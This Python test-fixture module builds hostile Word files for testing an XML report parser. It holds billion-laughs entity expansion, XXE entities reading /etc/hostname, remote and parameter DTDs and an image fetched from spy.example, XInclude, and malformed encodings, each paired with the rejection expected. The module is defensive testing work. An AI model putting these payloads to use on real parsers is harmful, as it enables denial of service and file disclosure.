"""Parts that are not the XML Word writes: document types, other encodings, other words."""

from collections.abc import Callable

from tests.documents.attacks.places import T
from tests.documents.cases import Hostile
from tests.documents.report_file import BODY, BODY_LINKS, WORD, parts, zipped
from tests.documents.wordml import p

_TWO_THOUSAND_AND_THREE = "http://schemas.microsoft.com/office/word/2003/wordml"
_STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"
_INCLUSION = '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/hostname" parse="text"/>'
_FROM_AFAR = '<w:pict><v:imagedata src="https://spy.example/x.png"/></w:pict>'
_MARK = "".join(f"&#x{number}E000;" for number in ("", "0", "000"))

LAUGHS = '<!DOCTYPE x [<!ENTITY a0 "ha">{}]>'.format(
    "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
)
FILE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>'
REMOTE = '<!DOCTYPE x SYSTEM "https://spy.example/x.dtd">'
PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://spy.example/x.dtd"> %p;]>'


def altered(says: str, change: Callable[[str], str | bytes], name: str = BODY) -> Hostile:
    """The report with one of its parts made over; the part is given without its XML declaration."""

    def build() -> bytes:
        made = parts(p("{{ subject }}"))
        xml = str(made.get(name, "<x/>"))
        return zipped({**made, name: change(xml.partition("?>\n")[2] or xml)})

    return Hostile(build=build, says=says)


def declared(name: str, declaration: str = FILE) -> Hostile:
    made = altered("document type", lambda xml: declaration + xml, name)
    return Hostile(build=made.build, says=made.says, place=name)


def replaced(says: str, old: str, new: str) -> Hostile:
    return altered(says, lambda xml: xml.replace(old, new))


def encoded(says: str, encoding: str, more: str = "") -> Hostile:
    return altered(says, lambda xml: f'<?xml version="1.0" encoding="{encoding}"?>{more}{xml}'.encode(encoding))


DOCUMENT_TYPES = {
    "body": declared(BODY),
    "body that laughs": declared(BODY, LAUGHS),
    "styles that laugh": declared("word/styles.xml", LAUGHS),
    "links": declared(BODY_LINKS),
    "links of the file": declared("_rels/.rels"),
    "content types": declared("[Content_Types].xml"),
    "header": declared("word/header1.xml", REMOTE),
    "properties": declared("docProps/core.xml", PARAMETER),
    "custom XML": declared("customXml/item1.xml"),
    "body in UTF-16": encoded("document type", "utf-16", FILE),
    "body in big-endian UTF-16": encoded("document type", "utf-16-be", FILE),
    "body in EBCDIC": encoded("", "cp037", FILE),
    "body in UTF-7": encoded("", "utf-7", FILE),
}

NOT_WORD = {
    "EBCDIC": encoded("not well-formed", "cp037"),
    "not UTF-8": altered("not well-formed", lambda xml: xml.encode().replace(b"About", b"\xff\xfe")),
    "overlong UTF-8": altered("not well-formed", lambda xml: xml.encode().replace(b"About", b"\xc0\xbc")),
    "lone surrogate": altered("not well-formed", lambda xml: xml.encode().replace(b"About", b"\xed\xa0\x80")),
    "cut off": altered("not well-formed", lambda xml: xml[:-9]),
    "two roots": altered("not well-formed", lambda xml: xml + "<x/>"),
    "entity of HTML": replaced("not well-formed", "About", "&nbsp;"),
    "unknown prefix": replaced("not well-formed", "About", "<z:x/>"),
    "control character": replaced("not well-formed", "About", "&#11;"),
    "broken links": altered("not well-formed", lambda xml: xml[:-5], BODY_LINKS),
    "broken styles": altered("not well-formed", lambda xml: xml + "x", "word/styles.xml"),
    "strict kind of Word": replaced("", WORD, _STRICT),
    "Word of 2003": replaced("", WORD, _TWO_THOUSAND_AND_THREE),
    "page of HTML": altered("", lambda _: "<html><body>{{ subject }}</body></html>"),
    "no body": altered("", lambda _: f'<w:document xmlns:w="{WORD}"/>'),
    "two bodies": altered("", lambda xml: xml.replace("</w:document>", f"<w:body>{p(T)}</w:body></w:document>")),
    "inclusion": replaced("not Word's", "<w:body>", f"<w:body>{_INCLUSION}"),
    "picture from afar in UTF-16": altered(
        "leads out", lambda xml: xml.replace("<w:r>", f"<w:r>{_FROM_AFAR}", 1).encode("utf-16")
    ),
    "private character": replaced("private character", "About", "\ue000 About"),
    "private character by its number": replaced("private character", "About", "&#xE000;"),
    "private character by longer numbers": replaced("private character", "About", _MARK),
    "private character in UTF-16": altered(
        "private character", lambda xml: xml.replace("About", "\ue000").encode("utf-16")
    ),
}
